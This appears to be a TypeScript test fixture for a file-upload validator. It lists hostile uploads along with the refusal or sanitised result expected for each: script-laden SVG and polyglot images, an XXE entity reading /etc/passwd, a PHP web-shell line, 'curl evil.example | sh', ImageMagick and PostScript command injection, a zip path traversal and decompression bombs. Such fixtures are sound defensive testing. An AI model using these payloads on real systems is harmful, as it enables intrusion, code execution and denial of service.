import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { FileKind } from '../file.rules.ts'
import { eicar, pdf, zip } from './documents.ts'
import { documents, names } from './hostile.documents.ts'
import { animatedGif, chunk, claimingSize, jpeg, photoWithPlace, png, withSegment } from './pictures.ts'

/** `harmless`: taken in, and what is served has nothing of `payload`; otherwise the refusals that are right. */
export type Hostile = {
  what: string
  name?: string
  kinds?: FileKind[]
  type?: string
  bytes: () => Buffer | string | Promise<Buffer>
  becomes: 'harmless' | readonly string[]
  payload?: string | Buffer
}

const script = '<script>alert("planted")</script>'
const html = `<!doctype html><html><body>${script}</body></html>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)">${script}</svg>`
const both: FileKind[] = ['image', 'pdf']
const no = (...codes: string[]) => codes
const wrong = no('fileType')
const other: Hostile[] = [
  { what: 'nothing at all', bytes: () => Buffer.alloc(0), becomes: no('fileEmpty') },
  { what: 'a few bytes', bytes: () => Buffer.from([0xff, 0xd8, 0xff]), becomes: wrong },
  { what: 'HTML as .jpg', bytes: () => html, becomes: wrong, type: 'image/jpeg' },
  {
    what: 'HTML behind the first bytes of a JPEG',
    bytes: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(html)]),
    becomes: no('fileBroken'),
  },
  { what: 'HTML behind the first bytes of a GIF', bytes: () => `GIF89a${html}`, becomes: no('fileBroken', 'filePixels') },
  {
    what: 'HTML behind the first bytes of a PNG',
    bytes: () => Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.from(html)]),
    becomes: no('fileBroken', 'fileType'),
  },
  { what: 'SVG with a script', bytes: () => svg, becomes: wrong, name: 'wappen.svg', type: 'image/svg+xml' },
  { what: 'SVG as .png', bytes: () => `<?xml version="1.0"?>${svg}`, becomes: wrong, name: 'wappen.png', type: 'image/png' },
  { what: 'packed SVG', bytes: () => Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), deflateSync(svg)]), becomes: wrong },
  {
    what: 'XML with an external entity',
    bytes: () => '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    becomes: wrong,
  },
  { what: 'a script for servers', bytes: () => '<?php system($_GET["c"]); ?>', becomes: wrong, name: 'bild.jpg.php' },
  { what: 'a shell script', bytes: () => '#!/bin/sh\ncurl evil.example | sh\n', becomes: wrong },
  {
    what: 'a drawing language that runs commands',
    bytes: () => 'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://e.example/x.jpg"|ls "-la)\'\npop graphic-context',
    becomes: wrong,
    name: 'bild.jpg',
  },
  { what: 'PostScript', bytes: () => '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file\n', becomes: wrong },
  {
    what: 'a program for Windows',
    bytes: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)]),
    becomes: wrong,
    name: 'foto.jpg.exe',
  },
  {
    what: 'a program for Linux',
    bytes: () => Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(400)]),
    becomes: wrong,
  },
  {
    what: 'an office document with a macro',
    bytes: () => zip('word/vbaProject.bin', Buffer.from('AutoOpen')),
    becomes: wrong,
    name: 'brief.docm',
    kinds: both,
  },
  {
    what: 'an old office document',
    bytes: () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    becomes: wrong,
    kinds: both,
  },
  { what: 'an archive', bytes: () => zip('../../etc/cron.d/x', Buffer.alloc(5000)), becomes: wrong, kinds: both },
  {
    what: 'an archive that unpacks to very much',
    bytes: () => zip('0', deflateSync(Buffer.alloc(20_000_000))),
    becomes: wrong,
    kinds: both,
  },
  {
    what: 'TIFF',
    bytes: () =>
      sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } })
        .tiff()
        .toBuffer(),
    becomes: wrong,
  },
  {
    what: 'HEIC',
    bytes: () => Buffer.concat([Buffer.from('00000018667479706865696300000000', 'hex'), Buffer.from('mif1heic'), Buffer.alloc(600)]),
    becomes: no('fileHeic'),
  },
  { what: 'the test virus', bytes: () => eicar, becomes: wrong, name: 'eicar.jpg' },
  {
    what: 'the test virus behind a picture',
    bytes: async () => Buffer.concat([await jpeg(), Buffer.from(eicar)]),
    becomes: no('fileInfected'),
  },
  { what: 'the test virus in a PDF', bytes: () => pdf(`9 0 obj\n(${eicar})\nendobj\n`), becomes: no('fileInfected'), kinds: both },
  {
    what: 'more bytes than allowed',
    bytes: async () => Buffer.concat([await jpeg(), Buffer.alloc(15 * 1024 * 1024)]),
    becomes: no('fileTooLarge'),
  },
]

const bombs: Hostile[] = [
  { what: 'a PNG of 50000 × 50000', bytes: () => png({ width: 50_000, height: 50_000, rows: 100 }), becomes: no('filePixels') },
  { what: 'a PNG that unpacks to 300 MB', bytes: () => png({ width: 50_000, height: 48_000 }), becomes: no('filePixels') },
  {
    what: 'an interlaced PNG of 16 bits, just below the limit of pixels',
    bytes: () => png({ width: 7700, height: 7700, rows: 10, depth: 16, interlaced: true }),
    becomes: no('fileBroken', 'filePixels'),
  },
  {
    what: 'a JPEG that claims 65000 × 65000',
    bytes: async () => claimingSize(await jpeg(), 65_000, 65_000),
    becomes: no('filePixels', 'fileBroken'),
  },
  {
    what: 'a JPEG that claims 7000 × 7000 and holds little',
    bytes: async () => claimingSize(await jpeg(), 7_000, 7_000),
    becomes: 'harmless',
  },
  {
    what: 'a GIF that claims 65535 × 65535',
    bytes: async () => {
      const gif = await animatedGif(1)
      gif.writeUInt16LE(65_535, 6)
      gif.writeUInt16LE(65_535, 8)
      return gif
    },
    becomes: 'harmless',
  },
  {
    what: 'an AVIF that claims 60000 × 60000',
    bytes: async () => {
      const avif = await sharp(await jpeg(64, 64))
        .avif({ effort: 0 })
        .toBuffer()
      const at = avif.indexOf('ispe') + 8
      avif.writeUInt32BE(60_000, at)
      avif.writeUInt32BE(60_000, at + 4)
      return avif
    },
    becomes: no('filePixels', 'fileBroken'),
  },
  {
    what: 'a colour profile that unpacks to 60 MB',
    bytes: () =>
      png({ width: 8, height: 8, more: [chunk('iCCP', Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(60_000_000))]))] }),
    becomes: 'harmless',
  },
  {
    what: 'a comment that unpacks to 60 MB',
    bytes: () =>
      png({
        width: 8,
        height: 8,
        more: [chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(60_000_000))]))],
      }),
    becomes: 'harmless',
  },
  { what: 'a JPEG cut off in the middle', bytes: async () => (await jpeg()).subarray(0, 20_000), becomes: no('fileBroken') },
  { what: 'a PNG without its data', bytes: () => png({ width: 200, height: 200, rows: 0 }), becomes: no('fileBroken') },
  { what: 'a moving picture', bytes: () => animatedGif(50), becomes: 'harmless' },
]

const polyglots: Hostile[] = [
  {
    what: 'a picture with HTML behind it',
    bytes: async () => Buffer.concat([await jpeg(), Buffer.from(html)]),
    becomes: 'harmless',
    payload: script,
  },
  {
    what: 'a picture that is an archive too',
    bytes: async () => Buffer.concat([await jpeg(), zip('planted.class', Buffer.from('planted'))]),
    becomes: 'harmless',
    payload: 'PK\x03\x04',
  },
  {
    what: 'a picture that is a PHP archive too',
    bytes: async () => Buffer.concat([await jpeg(), Buffer.from('<?php __HALT_COMPILER(); ?>GBMB')]),
    becomes: 'harmless',
    payload: '__HALT_COMPILER',
  },
  {
    what: 'a picture that is a PDF too',
    bytes: async () => Buffer.concat([await jpeg(), pdf('9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n')]),
    becomes: 'harmless',
    payload: '%PDF',
    kinds: both,
  },
  {
    what: 'a GIF that is a script too',
    bytes: async () => Buffer.concat([await animatedGif(1), Buffer.from('*/=1;alert("planted")//')]),
    becomes: 'harmless',
    payload: 'alert',
  },
  {
    what: 'a script in the comment of a JPEG',
    bytes: async () => withSegment(await jpeg(), 0xfe, Buffer.from(script)),
    becomes: 'harmless',
    payload: script,
  },
  { what: 'a script and a place in EXIF', bytes: () => photoWithPlace(), becomes: 'harmless', payload: 'PlantedCamera' },
  {
    what: 'a script in XMP',
    bytes: async () => withSegment(await jpeg(), 0xe1, Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${script}</x:xmpmeta>`)),
    becomes: 'harmless',
    payload: script,
  },
  {
    what: 'WebP with XMP',
    bytes: async () =>
      sharp(await jpeg())
        .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${script}</x:xmpmeta>`)
        .webp()
        .toBuffer(),
    becomes: 'harmless',
    payload: script,
  },
  {
    what: 'a script in the text of a PNG',
    bytes: () => png({ width: 64, height: 64, more: [chunk('tEXt', Buffer.from(`Comment\0${script}`))] }),
    becomes: 'harmless',
    payload: script,
  },
  {
    what: 'a broken colour profile',
    bytes: async () => withSegment(await jpeg(), 0xe2, Buffer.from(`ICC_PROFILE\0\x01\x01${script}`, 'latin1')),
    becomes: 'harmless',
    payload: script,
  },
  {
    what: 'four colours',
    bytes: async () =>
      sharp(await jpeg())
        .toColourspace('cmyk')
        .jpeg()
        .toBuffer(),
    becomes: 'harmless',
  },
  {
    what: 'sixteen bits',
    bytes: async () =>
      sharp(await jpeg(64, 64))
        .toColourspace('rgb16')
        .png()
        .toBuffer(),
    becomes: 'harmless',
  },
  { what: 'another content type in the header', bytes: () => jpeg(), type: 'text/html', becomes: 'harmless' },
]

export const hostile: readonly Hostile[] = [...other, ...bombs, ...polyglots, ...documents, ...names]
